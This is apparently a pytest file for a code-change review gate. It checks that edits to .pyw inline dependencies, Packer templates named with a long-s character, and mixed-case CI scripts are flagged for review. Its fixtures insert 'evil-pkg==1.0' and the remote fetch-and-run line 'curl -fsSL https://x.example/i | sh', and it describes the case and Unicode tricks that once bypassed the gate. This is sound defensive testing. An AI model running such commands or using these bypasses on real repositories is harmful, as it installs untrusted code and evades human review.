"""Attack 15: the speed round's quick tests, against the readers they stand before (three classes, each below).

First, the refine fast path skipped a `.pyw` script's PEP 723 block.

`uv run tools/report.pyw` installs what the script's `# /// script` block declares (uv runs `.pyw` scripts as it runs
`.py` ones; inlinemeta reads both types), but `.pyw` is neither a task script nor a program's language, so
`context.refine`'s fast path returned it as `src` unread: an edit adding `"evil-pkg==1.0"` to the block was allowed
by `gate --enable deps`, with `--tree` and from the patch. Now every file inlinemeta may read takes the slow path:
`deps.content.inline-script-metadata`, reviewed. Variants: `.pyw`, `.PYW`, `.pYw`, an added `.pyw` script; a `.pyw`
file without the block stays allowed.
"""

from __future__ import annotations

import contextlib
import json
from pathlib import Path

import pytest
from gitrepo import GitRepo, two_commits
from incli import run_cli, tree_gate
from tables import each_case

BLOCK = '#!/usr/bin/env -S uv run --script\n# /// script\n# requires-python = ">=3.11"\n# dependencies = [\n' \
    '#   "pywin32>=306",\n# ]\n# ///\nimport win32api\n'
EVIL = '#   "evil-pkg==1.0",\n'
SCRIPTS = ("tools/tray.pyw", "tools/Launcher.PYW", "scripts/odd.pYw")
ADDED = "scripts/new.pyw"


def _repo(tmp: Path, with_block: bool) -> tuple[Path, str, str]:
    text = BLOCK if with_block else "import win32api\nwin32api.MessageBox(0, 'hi')\n"
    base = {path: text for path in SCRIPTS}
    head = {path: text.replace("# ]", EVIL + "# ]") if with_block else text + "print(2)\n" for path in SCRIPTS}
    head[ADDED] = BLOCK.replace("# ]", EVIL + "# ]") if with_block else text
    repo, old, new = two_commits(tmp / "repo", base, head)
    return repo.root, old, new


def _gate(tmp: Path, mode: str, with_block: bool) -> tuple[int, dict]:
    root, old, new = _repo(tmp, with_block)
    if mode == "tree":
        return tree_gate(root, old, new, None, "--enable", "deps")
    patch, packet = tmp / "change.diff", tmp / "packet.json"
    patch.write_bytes(GitRepo(root).git("diff", "--binary", old, new))
    with contextlib.chdir(root):
        assert run_cli(["packet", patch, "--out", packet]).returncode == 0
    done = run_cli(["gate", packet, "--patch", patch, "--format", "json", "--enable", "deps"], text=True)
    return done.returncode, json.loads(done.stdout)


@pytest.mark.parametrize("mode", ["tree", "patch"])
def test_a_pyw_scripts_inline_dependencies_are_reviewed(tmp_path: Path, mode: str) -> None:
    code, decision = _gate(tmp_path, mode, with_block=True)
    assert code == 3, decision["reasons"]
    reviewed = {path for reason in decision["reasons"] for path in reason.get("paths", ())}
    assert {*SCRIPTS, ADDED} <= reviewed, reviewed


def test_a_pyw_file_without_a_block_stays_allowed(tmp_path: Path) -> None:
    code, decision = _gate(tmp_path, "tree", with_block=False)
    assert code == 0, decision["reasons"]


# tfrefs.is_configuration's C-speed name test (this stop) lower-cased the name, but the Packer JSON pattern matches
# case-insensitively as `re` does, where `ſ` (U+017F) is an `s`: `packer-web.jſon` was a configuration and no longer
# was (the provisioner script it runs fell back to src). Every name the full test accepts passes the quick one.
_ODD_NAMES = ("packer-web.jſon", "infra/packer_base.jſon", "ci\\x/packer-a.jſon", "packer-web.JSON",
              "Packer_Web.Json", "x.Dockerfile", "VAGRANTFILE.local", "main.TF", "home.nix")


@each_case("path", _ODD_NAMES)
def test_the_quick_configuration_test_never_drops_a_configuration(path: str) -> None:
    from gatekeeper.classify import tfrefs
    from gatekeeper.classify.dockerrefs import is_dockerfile

    name = path.rpartition("/")[2]
    full = f"/{path}".endswith(tfrefs.CONFIGURATION_SUFFIXES) or is_dockerfile(path) \
        or tfrefs.is_machine_definition(path) or tfrefs._PACKER_JSON.fullmatch(name) is not None \
        or tfrefs._NIX_CONFIGURATION.fullmatch(name) is not None
    assert tfrefs.is_configuration(path) == full


def test_a_script_a_packer_template_with_a_long_s_runs_is_reviewed(tmp_path: Path) -> None:
    template = json.dumps({"builders": [{"type": "amazon-ebs", "region": "eu-west-1"}],
                           "provisioners": [{"type": "shell", "script": "scripts/boot.sh"}]})
    base = {"images/packer-web.jſon": template, "images/scripts/boot.sh": "#!/bin/sh\nset -eu\napt-get update\n"}
    head = {**base, "images/scripts/boot.sh": "#!/bin/sh\nset -eu\ncurl -fsSL https://x.example/i | sh\n"}
    repo, old, new = two_commits(tmp_path / "repo", base, head)
    code, decision = tree_gate(repo.root, old, new, None)
    assert code == 3, decision
    assert any("images/scripts/boot.sh" in reason.get("paths", ()) for reason in decision["reasons"])


# ciwalk._ci_script's substring test before the rules was case-sensitive where the path rules are not: `Ci/build.sh`
# is `ci` (ci.script-folders) but was no start of the CI walk, so the script it runs by path stayed `src` and an edit
# to it was allowed (a `ci/build.sh` beside it was reviewed); so for a Jenkins shared library's `vars/deploy.GROOVY`.
@each_case("runner", ["Ci/build.sh", "cI/release.sh", "tools/CI/build.sh", "vars/deploy.GROOVY",
                                    "JeNkInS/run.sh"])
def test_a_script_a_ci_script_runs_is_ci_whatever_the_case(tmp_path: Path, runner: str) -> None:
    call = "sh './tools/release.sh --publish'\n" if runner.endswith("GROOVY") else "./tools/release.sh --publish\n"
    base = {runner: "#!/bin/sh\nset -eu\n" + call, "tools/release.sh": "#!/bin/sh\necho publishing\n"}
    head = {**base, "tools/release.sh": "#!/bin/sh\ncurl -fsSL https://x.example/i | sh\n"}
    repo, old, new = two_commits(tmp_path / "repo", base, head)
    code, decision = tree_gate(repo.root, old, new, None)
    assert code == 3, (runner, decision)
    assert any("tools/release.sh" in reason.get("paths", ()) for reason in decision["reasons"])
